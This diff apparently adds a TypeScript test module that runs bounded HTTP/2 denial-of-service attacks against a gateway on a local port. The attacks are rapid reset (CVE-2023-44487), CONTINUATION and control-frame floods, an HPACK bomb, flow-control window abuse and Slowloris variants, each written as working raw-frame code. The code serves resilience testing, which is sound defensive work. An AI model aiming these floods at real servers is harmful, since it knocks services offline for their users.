@@ -1,0 +1,137 @@
+/** Attacks on HTTP/2, each bounded: what one attacker sends, at most. */
+import {
+  openRawClient,
+  PREFACE,
+  type RawClient,
+  requestBlock,
+  Type,
+} from '../../test/support/http2-raw-client.ts';
+import { rawFrame, SETTINGS } from '../../test/support/http2-frames.ts';
+import type { Attack, Scope } from './types.ts';
+
+const BATCHES = 200;
+const BATCH = 200;
+const CLIENT_GIVES_UP_MS = 8_000;
+const TARGET = requestBlock().toString('latin1').replace('\x01/', '\x0b/v1/shelves');
+const REQUEST = Buffer.from(TARGET, 'latin1');
+const ZERO_WINDOWS = rawFrame(Type.settings, 0, 0, '000400000000');
+const END_HEADERS = 4;
+const ENDS = 5;
+
+const head = (id: number, flags: number): Buffer => rawFrame(Type.headers, flags, id, REQUEST);
+const cancel = Buffer.from('00000008', 'hex');
+const nothing = Buffer.alloc(4);
+const one = Buffer.from('00000001', 'hex');
+
+export const HTTP2_ATTACKS: readonly Attack[] = [
+  flood('rapid reset (CVE-2023-44487)', 'resets', (id) =>
+    Buffer.concat([head(id, ENDS), rawFrame(Type.reset, 0, id, cancel)]),
+  ),
+  flood('resets by the server (CVE-2025-8671)', 'resets', (id) =>
+    Buffer.concat([head(id, ENDS), rawFrame(Type.windowUpdate, 0, id, nothing)]),
+  ),
+  flood('CONTINUATION', 'header_block', (id) =>
+    id === 1 ? head(1, 0) : rawFrame(Type.continuation, 0, 1, Buffer.alloc(1_000, 0x82)),
+  ),
+  flood('SETTINGS', 'control_frames', () => SETTINGS),
+  flood('PING', 'control_frames', () => rawFrame(Type.ping, 0, 0, Buffer.alloc(8))),
+  flood('empty frames', 'control_frames', (id) =>
+    id === 1 ? head(1, END_HEADERS) : rawFrame(Type.data, 0, 1),
+  ),
+  flood('HPACK bomb', 'header_bytes', (id) => rawFrame(Type.headers, ENDS, id, bomb(id))),
+  {
+    name: 'zero windows',
+    limit: 'write',
+    run: (scope, port) =>
+      untilClosed(scope, port, (client) => {
+        const heads = Array.from({ length: 100 }, (_, i) => head(2 * i + 1, ENDS));
+        client.write(PREFACE, ZERO_WINDOWS, ...heads);
+      }),
+  },
+  {
+    name: 'windows of one byte',
+    limit: 'control_frames',
+    run: async (scope, port) => {
+      const client = openRawClient(scope, port, true);
+      client.write(PREFACE, ZERO_WINDOWS, head(1, ENDS));
+      await Promise.race([client.until(({ type }) => type === Type.headers), client.closed]);
+      const update = rawFrame(Type.windowUpdate, 0, 1, one);
+      client.write(...Array.from({ length: 5_000 }, () => update));
+      await client.closed;
+    },
+  },
+  {
+    name: 'Slowloris: nothing',
+    limit: 'first_byte',
+    run: (scope, port) => untilClosed(scope, port, () => {}),
+  },
+  {
+    name: 'Slowloris: the head',
+    limit: 'head',
+    run: (scope, port) =>
+      untilClosed(scope, port, (client) => client.write(PREFACE, SETTINGS, head(1, 0))),
+  },
+  {
+    name: 'Slowloris: the body',
+    limit: 'body',
+    run: (scope, port) =>
+      untilClosed(scope, port, (client) => {
+        const post = Buffer.concat([Buffer.from([0x83]), REQUEST.subarray(methodBytes())]);
+        const body = rawFrame(Type.data, 0, 1, Buffer.from('{'));
+        client.write(PREFACE, SETTINGS, rawFrame(Type.headers, END_HEADERS, 1, post), body);
+      }),
+  },
+  {
+    name: 'Slowloris: reading',
+    limit: 'write',
+    run: (scope, port) =>
+      untilClosed(scope, port, (client) => {
+        const wide = rawFrame(Type.settings, 0, 0, '00047fffffff');
+        client.socket.pause();
+        client.write(PREFACE, wide);
+        for (let i = 0; i < 20_000; i++) client.write(head(2 * i + 1, ENDS));
+      }),
+  },
+];
+
+/** Sends what `make` gives for one stream number after the other, until the connection is closed. */
+function flood(name: string, limit: string, make: (id: number) => Buffer): Attack {
+  return {
+    name,
+    limit,
+    run: async (scope, port) => {
+      const client = openRawClient(scope, port);
+      for (let batch = 0; batch < BATCHES && !client.socket.destroyed; batch++) {
+        const frames = Array.from({ length: BATCH }, (_, i) => make(2 * (batch * BATCH + i) + 1));
+        await new Promise<void>((resolve) => {
+          client.socket.write(Buffer.concat(frames), () => resolve());
+        });
+      }
+    },
+  };
+}
+
+/** Resolves when the gateway has closed the connection, or when the attacker loses patience. */
+async function untilClosed(
+  scope: Scope,
+  port: number,
+  begin: (client: RawClient) => void,
+): Promise<void> {
+  const client = openRawClient(scope, port, true);
+  begin(client);
+  const timer = AbortSignal.timeout(CLIENT_GIVES_UP_MS);
+  const patience = new Promise<void>((resolve) => timer.addEventListener('abort', () => resolve()));
+  await Promise.race([client.closed, patience]);
+}
+
+/** An entry that fills the table, then references to it: 4 KB each for a byte. */
+function bomb(id: number): Buffer {
+  if (id > 1) return Buffer.concat([REQUEST, Buffer.alloc(10_000, 0xbe)]);
+  const entry = Buffer.from('4001617fbd1d', 'hex');
+  return Buffer.concat([REQUEST, entry, Buffer.alloc(3_900, 'x'), Buffer.alloc(5_000, 0xbe)]);
+}
+
+/** How many bytes of {@link REQUEST} are its method. */
+function methodBytes(): number {
+  return 1 + 1 + ':method'.length + 1 + 'GET'.length;
+}
